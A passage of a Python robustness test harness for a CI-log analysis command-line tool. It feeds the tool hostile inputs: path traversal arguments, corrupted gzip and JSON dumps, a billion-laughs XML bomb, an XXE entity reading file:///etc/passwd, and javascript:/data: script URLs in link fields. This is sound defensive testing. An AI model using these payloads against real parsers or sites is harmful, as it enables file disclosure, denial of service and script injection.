            expect={1},
        ),
        case(
            "analyze --repo o/r/issues",
            ["--db", "{db}", "analyze", "--repo", "o/r/issues", "--out", "{out}"],
            expect={1},
        ),
        case("sync o/r/issues", ["--db", "{db}", "sync", "o/r/issues"], expect={1}),
        case("sync ../../etc", ["--db", "{db}", "sync", "../../etc"], expect={1}),
        case(
            "sync --days 1000000000",
            ["--db", "{db}", "sync", "acme/app", "--days", "1000000000"],
            expect={1, 2},
        ),
        case(
            "sync --budget 99999999999999999999",
            ["--db", "{db}", "sync", "acme/app", "--budget", "99999999999999999999"],
            expect={1},
        ),
        case("demo OUT is a file", ["demo", "{dir}/f.csv"], expect={1}, prepare=file_at("f.csv")),
        case(
            "demo OUT below a file", ["demo", "{dir}/f.csv/x"], expect={1}, prepare=file_at("f.csv")
        ),
        case(
            "import a file",
            ["--db", "{db}", "import", "{dir}/f.csv"],
            expect={1},
            prepare=file_at("f.csv"),
        ),
        case(
            "import a name too long", ["--db", "{db}", "import", "{dir}/" + "x" * 300], expect={1}
        ),
        case("--db a name too long", ["--db", "{dir}/" + "x" * 300, "status"], expect={1}),
        case(
            "worker --db a name too long",
            ["status", "--db", "{dir}/" + "x" * 300],
            module="core.queue.cli",
            expect={1},
        ),
        case(
            "consume --out a folder",
            [
                "consume",
                "logs",
                "--db",
                "{db}",
                "--endpoint",
                "http://127.0.0.1:9",
                "--out",
                "{dir}",
            ],
            module="core.queue.cli",
            expect={1},
        ),
        case("status with no store", ["--db", "{dir}/none.db", "status"], expect={0}, store=False),
    ]
    gz_variants = {
        "truncated": lambda: gzip.compress(b"FAILED tests/t.py::test_x\n" * 500)[:300],
        "not-gzip": lambda: b"plain text, named .gz",
        "empty": lambda: b"",
        "gzip-of-binary": lambda: gzip.compress(b"\x7fELF\x02\x01\x01" + bytes(4096)),
        "two-members": lambda: gzip.compress(b"a\n") + gzip.compress(b"FAILED t.py::x\n"),
        "trailing-garbage": lambda: gzip.compress(b"FAILED t.py::x\n") + b"garbage",
    }
    for label, make in gz_variants.items():
        for how, argv in (
            ("log", ["rca", "{dir}/x.log.gz"]),
            ("previous-green", ["rca", "{dir}/ok.log", "--previous-green", "{dir}/x.log.gz"]),
            ("json-among-others", ["rca", "{dir}/x.log.gz", "{dir}/ok.log", "--json"]),
        ):
            cases.append(
                case(
                    f"rca {label} .gz as {how}",
                    argv,
                    prepare=lambda ctx, make=make: (
                        (ctx.dir / "x.log.gz").write_bytes(make()),
                        (ctx.dir / "ok.log").write_text(
                            "FAILED tests/t.py::test_x - assert 1 == 2\n"
                        ),
                    ),
                    store=False,
                )
            )
    cases += [
        case("rca a folder", ["rca", "{dir}"], store=False),
        case("rca /dev/zero-like empty", ["rca", "/dev/null"], store=False),
        case(
            "rca --json first",
            ["rca", "--json", "{dir}/ok.log"],
            expect={0},
            store=False,
            prepare=lambda ctx: (ctx.dir / "ok.log").write_text("FAILED t.py::x - boom\n"),
        ),
        case(
            "rca --previous-green first",
            ["rca", "--previous-green", "{dir}/ok.log", "{dir}/ok.log"],
            expect={0},
            store=False,
            prepare=lambda ctx: (ctx.dir / "ok.log").write_text("FAILED t.py::x - boom\n"),
        ),
    ]
    return cases


# -- (10) import atomicity and one hostile JUnit file ---------------------------------------------
def atomicity_cases() -> list[Case]:
    def bad_at(where: str) -> Callable[[Ctx], None]:
        def prepare(ctx: Ctx) -> None:
            root = ctx.hostile_dump(runs=14)
            rows = _runs(root)
            if where in ("first", "middle", "last"):
                index = {"first": 0, "middle": len(rows) // 2, "last": len(rows) - 1}[where]
                rows[index]["created_at"] = "yesterday"
                _write_runs(root, rows)
            elif where == "last-job":
                path = root / "jobs" / f"{rows[-1]['id']}.json"
                data = _read_json(path)
                data["jobs"][-1]["started_at"] = "soon"
                _write_json(path, data)
            elif where == "last-commit":
                path = root / "commits" / f"{rows[-1]['head_sha']}.json"
                data = _read_json(path)
                data["stats"] = {"additions": "many"}
                _write_json(path, data)
            elif where == "last-line-cut":
                text = (root / "runs.jsonl").read_text()
                (root / "runs.jsonl").write_text(text[: -len(text.splitlines()[-1]) // 2 - 1])

        return prepare

    def junit(label: str, content: bytes) -> Case:
        def prepare(ctx: Ctx) -> None:
            root = ctx.hostile_dump()
            _junit_path(root).write_bytes(content)

        def all_runs(ctx: Ctx, _r: list[Result]) -> list[str]:
            stored = _stored(HOSTILE_REPO, "runs", "t.is_latest = 1")(ctx)
            return (
                []
                if stored == 3
                else [f"loss: one JUnit file stopped the import ({stored} of 3 runs)"]
            )

        return Case(
            "atomicity",
            f"junit-{label}",
            prepare=prepare,
            steps=_import(),
            expect=({0},),
            changes=(HOSTILE_REPO,),
            checks=(all_runs, _reported_equals_stored),
        )

    cases = [
        Case(
            "atomicity",
            f"bad-record-{where}",
            prepare=bad_at(where),
            steps=_import(),
            atomic=True,
            expect=({1},),
        )
        for where in ("first", "middle", "last", "last-job", "last-commit", "last-line-cut")
    ]
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
        b"<testsuite><testcase name='&lol2;'/></testsuite>"
    )
    cases += [
        junit("billion-laughs", laughs),
        junit(
            "xxe",
            b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
            b"<testsuite><testcase name='&e;'/></testsuite>",
        ),
        junit("cut-mid-element", b'<testsuite><testcase classname="a" name="b"><fail'),
        junit("binary", bytes(range(256)) * 8),
        junit("deep-nesting", b"<a>" * 100_000 + b"</a>" * 100_000),
        junit(
            "utf-16",
            '<?xml version="1.0" encoding="utf-16"?><testsuite><testcase name="t"/>'
            "</testsuite>".encode("utf-16"),
        ),
        junit("empty", b""),
    ]
    return cases


# -- (11) odd ids and links ------------------------------------------------------------------------
def odd_id_cases() -> list[Case]:
    def duplicate(what: str) -> Callable[[Ctx], None]:
        def prepare(ctx: Ctx) -> None:
            root = ctx.hostile_dump()
            rows = _runs(root)
            if what == "run-ids":
                rows[1]["id"] = rows[0]["id"]
                _write_runs(root, rows)
            elif what == "job-ids-across-runs":
                donor = _read_json(root / "jobs" / f"{rows[0]['id']}.json")["jobs"][0]["id"]
                path = root / "jobs" / f"{rows[1]['id']}.json"
                data = _read_json(path)
                data["jobs"][0]["id"] = donor
                _write_json(path, data)
            elif what == "job-ids-in-a-run":
                path = root / "jobs" / f"{rows[1]['id']}.json"
                data = _read_json(path)
                data["jobs"][1]["id"] = data["jobs"][0]["id"]
                _write_json(path, data)
            elif what == "workflow-ids":
                data = _read_json(root / "workflows.json")
                data["workflows"].append({**data["workflows"][0], "name": "Other"})
                _write_json(root / "workflows.json", data)
            elif what == "step-numbers":
                _edit_job(
                    root, lambda job: job["steps"][1].update(number=job["steps"][0]["number"])
                )

        return prepare

    def link(where: str, url: str) -> Callable[[Ctx], None]:
        def prepare(ctx: Ctx) -> None:
            root = ctx.hostile_dump()
            if where == "run":
                rows = _runs(root)
                for row in rows:
                    row["html_url"] = url
                _write_runs(root, rows)
            elif where == "job":
                _edit_job(root, lambda job: job.update(html_url=url))
            else:
                repo = _read_json(root / "repo.json")
                repo["html_url"] = url
                _write_json(root / "repo.json", repo)

        return prepare

    cases = [
        Case(
            "odd_ids",
            f"duplicate-{what}",
            prepare=duplicate(what),
            steps=_import(),
            changes=(HOSTILE_REPO,),
            checks=(_reported_equals_stored, _dump_equals_stored),
        )
        for what in (
            "run-ids",
            "job-ids-across-runs",
            "job-ids-in-a-run",
            "workflow-ids",
            "step-numbers",
        )
    ]
    cases += [
        Case(
            "odd_ids",
            f"{where}-html_url-{url.split(':')[0]}",
            prepare=link(where, url),
            steps=_import_analyze,
            changes=(HOSTILE_REPO,),
            checks=(_formula_cells,),
        )
        for where in ("run", "job", "repo")
        for url in ("javascript:alert(document.cookie)", "data:text/html,<script>x</script>")
    ]
    return cases


# ==============================================================================================
CLASSES: dict[str, Callable[[], list[Case]]] = {
    "future_cursor": cursor_cases,
    "repo_collision": collision_cases,
    "secrets": secret_cases,
    "markdown": lambda: [],  # rendered as one group, see markdown_group
    "bombs": bomb_cases,
    "csv_injection": formula_cases,
    "path_traversal": traversal_cases,
    "foreign_db": foreign_cases,
    "damaged_store": damaged_store_cases,
    "malformed_dump": malformed_dump_cases,
    "bad_arguments": settings_and_argument_cases,
    "atomicity": atomicity_cases,
    "odd_ids": odd_id_cases,
}


def report(outcomes: list[Outcome], seconds: float, baseline_error: str | None) -> None:
    by_class: dict[str, list[Outcome]] = defaultdict(list)
    for outcome in outcomes:
        by_class[outcome.case.klass].append(outcome)

    def count(items: list[Outcome], kind: str) -> int:
        return sum(any(r.startswith(kind) for r in o.reasons) for o in items)

    if baseline_error:
        print(
            f"WARNING: the baseline store could not be made ({baseline_error[:200]}); "
            "cases start from an empty store and no loss can be seen."
        )
    width = max(len(k) for k in CLASSES)
    print(f"{'class':<{width}}  {'cases':>5}  {'crashes':>7}  {'losses':>6}  {'leaks':>5}")
    for klass in CLASSES:
        items = by_class.get(klass, [])
        if items:
            print(
                f"{klass:<{width}}  {len(items):>5}  {count(items, 'crash'):>7}  "
                f"{count(items, 'loss'):>6}  {count(items, 'leak'):>5}"
            )
    bench = [o for o in outcomes if any(r.startswith("bench") for r in o.reasons)]
    print(
        f"cases {len(outcomes)} crashes {count(outcomes, 'crash')} losses "
        f"{count(outcomes, 'loss')} leaks {count(outcomes, 'leak')}"
        + (f" (bench errors {len(bench)})" if bench else "")
        + f"   [{seconds:.0f} s]"
    )
    failing = [o for o in outcomes if o.reasons]
    if failing:
        print(f"\nfailing cases ({len(failing)}):")
    for outcome in failing:
        first, *more = outcome.reasons
        extra = f" (+{len(more)} more)" if more else ""
        print(f"  {outcome.case.klass}/{outcome.case.name}: {first}{extra}")


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--jobs", type=int, default=2, help="cases run side by side (default 2)")
    parser.add_argument("--only", help="comma-separated classes (default: all)")
    parser.add_argument("--keep", action="store_true", help="keep every case's folder")
    parser.add_argument("--list", action="store_true", help="list the cases and exit")
    parser.add_argument("--shim", help=argparse.SUPPRESS)
    parser.add_argument("--app", help=argparse.SUPPRESS)
    args = parser.parse_args(argv)
    if args.shim:
        _shim(args.shim)
        return 0
    if args.app:
        _app_child(args.app)
        return 0
    chosen = list(CLASSES) if not args.only else [c.strip() for c in args.only.split(",")]
    unknown = [c for c in chosen if c not in CLASSES]
    if unknown:
        print(f"unknown classes {unknown}; known: {', '.join(CLASSES)}")
        return 0
    cases = [case for klass in chosen for case in CLASSES[klass]()]
    if args.list:
        for case in cases:
            print(f"{case.klass}/{case.name}")
        if "markdown" in chosen:
            for name, *_ in markdown_plan():
                print(f"markdown/{name}")
        return 0
    started = time.perf_counter()
    folder = Path(tempfile.mkdtemp(prefix="reliability-"))
    try:
        assets = _build_assets(folder)
        outcomes = run_cases(cases, assets, max(1, args.jobs), args.keep)
        if "markdown" in chosen:
            outcomes += markdown_group(assets, args.keep)
        order = {klass: i for i, klass in enumerate(CLASSES)}
        outcomes.sort(key=lambda o: order[o.case.klass])
        report(outcomes, time.perf_counter() - started, assets.baseline_error)
    finally:
        if args.keep:
            print(f"\nfolders kept in {folder}")
        else:
            shutil.rmtree(folder, ignore_errors=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
